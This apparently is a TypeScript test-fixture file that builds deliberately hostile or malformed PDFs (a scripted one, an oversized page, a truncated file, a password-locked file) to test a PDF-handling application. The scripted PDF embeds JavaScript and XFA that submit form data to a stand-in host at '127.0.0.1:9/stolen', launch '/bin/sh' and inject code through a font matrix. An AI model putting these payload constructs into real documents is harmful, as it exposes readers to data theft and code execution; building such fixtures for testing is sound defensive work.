import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** PDFs an honest office never sends, made by hand: readers find their objects although there is no table of them. */

const pdfOf = (objects: readonly string[]): Buffer =>
  Buffer.from(`%PDF-1.7\n${objects.map((object, n) => `${n + 1} 0 obj\n${object}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R /Size ${objects.length + 1} >>\n%%EOF\n`, 'latin1');

const stream = (content: string, entries = ''): string => `<< /Length ${content.length} ${entries}>>\nstream\n${content}\nendstream`;
const words = (text: string): string => stream(`BT /F1 24 Tf 72 700 Td (${text}) Tj ET`);
const leave = 'Reflect.set(globalThis, "hostile", true); app.alert("hostile"); this.submitForm("http://127.0.0.1:9/stolen"); app.launchURL("http://127.0.0.1:9/", true);';

/** Runs scripts when it is opened, when a page is shown and when a field is touched, and asks for addresses and files. */
export const scriptedPdf = (): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R /WP 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> /AcroForm << /Fields [7 0 R] /XFA 8 0 R >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R >> /Annots [7 0 R 9 0 R] >>',
    words('Plan cu scripturi'),
    // a matrix of a font is numbers; text there was once run by a reader that compiled it
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [0.001 0 0 0.001 0 (0\\); Reflect.set\\(globalThis, "hostile", true)] >>',
    `<< /S /JavaScript /JS (${leave.replace(/[()]/g, '\\$&')}) >>`,
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 640] /AA << /Fo 6 0 R /K 6 0 R >> >>',
    stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>${leave}</script></event></subform></template></xdp:xdp>`),
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://127.0.0.1:9/) >> /AA << /PO << /S /Launch /F (/bin/sh) >> >> >>',
  ]);

/** A page a hundred kilometres wide. */
export const hugePdf = (): Buffer =>
  pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300000000 300000000] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>', words('Plan uriaș'), '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>']);

/** A whole document of which only the head arrived, and what followed was noise. */
export const brokenPdf = (): Buffer => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4000, 0x93)]);

/** Locked with a password that nobody told. */
export const lockedPdf = (folder: string): Buffer => {
  const [open, locked] = [join(folder, 'open.pdf'), join(folder, 'locked.pdf')];
  writeFileSync(open, pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>']));
  // 3: done, although the table of objects had to be found
  try {
    execFileSync('qpdf', ['--encrypt', 'secret', 'owner', '256', '--', open, locked], { stdio: 'ignore' });
  } catch (error) {
    if (!(error instanceof Error && 'status' in error && error.status === 3)) throw error;
  }
  return readFileSync(locked);
};
